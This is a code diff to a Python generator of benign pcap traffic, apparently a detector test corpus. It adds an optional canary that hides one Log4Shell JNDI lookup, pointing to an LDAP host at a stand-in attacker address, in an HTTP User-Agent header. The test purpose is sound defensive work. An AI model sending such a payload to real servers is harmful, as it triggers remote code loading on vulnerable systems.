@@ -146,13 +146,23 @@ def _conversation(w: _Writer, rng: random.Random, n: int) -> None:
                                             (False, wire.http_ok(b"{}", "application/json"))])
 
 
-def write_corpus(path: Path, min_packets: int = 100_000, seed: int = 44228) -> int:
-    """Write the benign corpus to path (a pcap); returns the number of packets written."""
+def write_corpus(path: Path, min_packets: int = 100_000, seed: int = 44228,
+                 canary: bool = False) -> int:
+    """Write the benign corpus to path (a pcap); returns the number of packets written.
+
+    canary hides one real attempt (a lookup in a User-Agent) halfway, to show the corpus is
+    really inspected.
+    """
     rng = random.Random(seed)
     w = _Writer()
     n = 0
     while w.count < min_packets:
         _conversation(w, rng, n)
         n += 1
+        if canary and w.count >= min_packets // 2:
+            canary = False
+            w.tcp(bytes((203, 0, 113, 7)), bytes((10, 96, 0, 5)), 40000, 8080, [
+                (True, wire.http_get("/", "web", "${jndi:ldap://203.0.113.7:1389/a}")),
+                (False, wire.http_ok(b"{}", "application/json"))])
     Path(path).write_bytes(w.out)
     return w.count
